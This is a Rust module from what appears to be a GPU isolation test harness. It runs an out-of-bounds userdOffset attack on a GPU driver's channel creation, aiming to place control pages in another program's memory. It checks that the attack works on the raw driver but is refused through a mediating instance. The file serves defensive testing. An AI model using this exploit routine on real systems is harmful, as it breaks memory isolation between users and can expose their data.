// SPDX-License-Identifier: GPL-2.0
//! A part of memory that the memory has not: the GPU reaches whatever lies there.
//!
//! The driver adds an offset to where memory lies, and takes the sum for a place in it. The attack
//! works on the driver's own nodes.

use super::{
    attack::Own,
    rest::alone,
    scene::{clean_up, told, Place, GPU, LIMIT, MIB, OWN},
    stale::{client_on, Program, SECRET},
};
use crate::{
    bytes::{put_u32, put_u64},
    guest::{
        rm,
        tools::{at, control, Verdict},
    },
};

pub(super) const ATTACKS: &[Own] = &[Own {
    name: "a control page in another's memory (userdOffset)",
    function: "kernel_channel_gv100.c:kchannelCreateUserdMemDesc_GV100",
    run: reach_control_pages,
}];

/// The program's only memory, a group, and what it tries to make.
const MEMORY: u32 = OWN;
const GROUP: u32 = OWN + 1;
const MADE: u32 = OWN + 2;
const PIECE: u64 = 2 * MIB;
/// Pieces behind the program's memory, and before it.
const PIECES: u64 = 64;

/// How often it reached beyond its memory, and why not more often.
#[derive(Default)]
struct Beyond {
    times: usize,
    refused: String,
}

impl Beyond {
    fn note(&mut self, tried: Verdict) {
        match tried {
            Ok(()) => self.times += 1,
            Err(how) => self.refused = how,
        }
    }
}

/// Channels whose control page is not in their memory. The driver clears it.
fn control_pages(client: &rm::Client) -> Result<Beyond, String> {
    at("group", client.channel_group(GROUP, rm::COMPUTE))?;
    let mut reached = Beyond::default();
    // All ones are a handle as any other to the driver.
    let _ = client.memory(u32::MAX, PIECE);
    for memory in [MEMORY, u32::MAX] {
        for piece in 1..=PIECES {
            for offset in [piece * PIECE, (piece * PIECE).wrapping_neg()] {
                let mut params = at("channel", client.channel_params())?;
                put_u32(&mut params, 32, memory);
                put_u64(&mut params, 64, offset);
                reached.note(told(client.alloc(GROUP, MADE, rm::CHANNEL, &mut params)));
                let _ = client.free(MADE);
            }
        }
    }
    Ok(reached)
}

/// The attack beside a victim; and whether the victim's memory is as it was.
fn tried(place: Place) -> Result<(Beyond, bool), String> {
    let victim = Program::new(place, "victim", SECRET)?;
    let client = client_on(&place.folder("attacker"), GPU)?;
    let memory = at("memory", client.memory(MEMORY, PIECE));
    let reached = memory.and_then(|_| control_pages(&client));
    let is_unharmed = victim.is_unharmed();
    client.close();
    victim.close();
    Ok((reached?, is_unharmed))
}

fn reach_control_pages() -> Result<String, String> {
    let control = control()?;
    let (direct, harmless) = alone(|| tried(Place::Driver))?;
    if direct.times == 0 {
        return Err(format!("does not work on the driver: {}", direct.refused));
    }
    clean_up(&control);
    for name in ["victim", "attacker"] {
        let made = control.create(name, GPU, LIMIT / 2, 1);
        made.map_err(|errno| format!("create: errno {errno}"))?;
    }
    let through = tried(Place::Instance);
    clean_up(&control);
    let (through, is_unharmed) = through?;
    match through.times {
        0 if is_unharmed => Ok(format!(
            "{} on the driver, the victim's memory {} by it; refused: {}",
            direct.times,
            if harmless { "not reached" } else { "changed" },
            through.refused
        )),
        0 => Err("the victim's memory is not what it was".to_owned()),
        times => Err(format!("{times} work through the instance")),
    }
}
